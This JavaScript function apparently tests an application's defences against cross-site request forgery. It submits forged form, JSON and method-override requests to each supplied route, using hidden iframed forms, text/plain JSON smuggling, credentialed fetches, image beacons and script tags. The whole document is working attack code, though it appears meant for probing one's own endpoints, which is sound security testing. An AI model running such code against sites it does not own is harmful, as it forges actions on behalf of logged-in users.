// What a page of somebody else's can make a browser send, for each of some addresses of ours.
const send = (victim, routes, csrf) => {
  const json = '{"firstName":"forged","name":"forged","notes":"forged","timeZone":"Asia/Tokyo","state":"off","email":"forged","x":"';
  const fields = { _csrf: csrf, _method: 'DELETE', text: 'forged', notes: 'forged', firstName: 'forged', name: 'forged', theme: 'dark' };
  const field = (form, name, value) => {
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name, value });
    form.append(input);
  };
  const form = (path, enctype) => {
    const frame = document.createElement('iframe');
    frame.name = `${enctype} ${path}`;
    document.body.append(frame);
    const made = document.createElement('form');
    Object.assign(made, { method: 'post', action: victim + path, enctype, target: frame.name });
    if (enctype === 'text/plain') field(made, json, '"}');
    else Object.entries(fields).forEach(([name, value]) => field(made, name, value));
    document.body.append(made);
    made.submit();
  };
  for (const path of new Set(routes.map((route) => route.path))) {
    ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'].forEach((type) => form(path, type));
  }
  for (const { method, path } of routes) {
    fetch(victim + path, { method: 'POST', mode: 'no-cors', credentials: 'include', body: json + '"}' }).catch(() => {});
    fetch(victim + path, { method, credentials: 'include', headers: { 'X-CSRF-Token': csrf, 'Content-Type': 'application/json' }, body: json + '"}' }).catch(() => {});
    new Image().src = `${victim}${path}${path.includes('?') ? '&' : '?'}_method=${method}&_csrf=${csrf}`;
    const script = document.createElement('script');
    script.src = victim + path;
    document.head.append(script);
  }
};
